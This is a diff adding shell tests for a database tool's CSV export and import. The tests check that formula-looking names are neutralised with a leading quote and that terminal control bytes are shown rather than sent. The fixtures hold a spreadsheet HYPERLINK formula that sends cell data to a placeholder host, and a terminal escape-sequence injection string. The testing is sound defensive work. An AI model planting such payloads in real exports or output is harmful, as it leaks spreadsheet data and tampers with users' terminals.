@@ -106,3 +106,34 @@ else not_ok "check echoes the store's name raw"; fi
 run init "$evil/new.db"
 if [ "$status" -eq 0 ] && [ "$(controls "$OUT")" -eq 0 ]; then ok "cxtop init prints the store's name made safe"
 else not_ok "init echoes the store's name raw"; fi
+
+# export: formula-looking text is written after a ' (a spreadsheet shows it
+# as text), which import takes off again, so the round trip is exact; on a
+# terminal the controls are shown, to a file they are kept.
+cp sample.db "$WORK/exp.db"
+sqlite3 "$WORK/exp.db" "UPDATE customers SET name = '=HYPERLINK(\"http://x/?a=\"&A1,\"click\")' WHERE id = 1;
+	UPDATE customers SET name = '''quoted' WHERE id = 2; UPDATE customers SET name = '@sum, \"x\"' WHERE id = 3;
+	UPDATE customers SET name = '-2+3' WHERE id = 4"
+run export customers "$WORK/exp.db"
+if grep -Fq '"'"'"'=HYPERLINK(""http://x/?a=""&A1,""click"")"' "$OUT" && grep -Fq ",''quoted," "$OUT" &&
+	grep -Fq ",'-2+3," "$OUT" && grep -Fq "\"'@sum, \"\"x\"\"\"" "$OUT"; then
+	ok "export writes formula-looking text after a '"
+else not_ok "export's formula cells" "$(grep -E '^[1-4],' "$OUT")"; fi
+cp "$OUT" "$WORK/customers.csv"
+"$CXTOP" init "$WORK/back.db" >/dev/null
+run import customers "$WORK/customers.csv" "$WORK/back.db"
+a=$(sqlite3 "$WORK/exp.db" "SELECT id, name FROM customers WHERE id <= 4")
+b=$(sqlite3 "$WORK/back.db" "SELECT id, name FROM customers WHERE id <= 4")
+if [ "$status" -eq 0 ] && [ "$a" = "$b" ]; then ok "... and import takes the ' off: the names come back exactly"
+else not_ok "export then import changed names" "$a" "$b"; fi
+# A control character another program wrote (import would refuse it).
+sqlite3 "$WORK/exp.db" "UPDATE customers SET name = 'Evil' || char(27) || ']0;pwn' || char(7) WHERE id = 5"
+"$CXTOP" export customers "$WORK/exp.db" >"$WORK/customers.csv"
+if [ "$(controls "$WORK/customers.csv")" -gt 0 ]; then ok "export to a file keeps the bytes as stored"
+else not_ok "export to a file changed the controls"; fi
+if command -v script >/dev/null; then
+	script -qec "$CXTOP export customers $WORK/exp.db" /dev/null >"$WORK/tty.out" 2>&1
+	if grep -aFq 'Evil^[]0;pwn^G' "$WORK/tty.out" && [ "$(grep -ac "$(printf '\033')" "$WORK/tty.out")" -eq 0 ]; then
+		ok "export to a terminal shows the controls, never sends them"
+	else not_ok "export to a terminal" "$(grep -a pwn "$WORK/tty.out" | od -c | head -3)"; fi
+else ok "# skip: no script(1) to give export a terminal"; fi
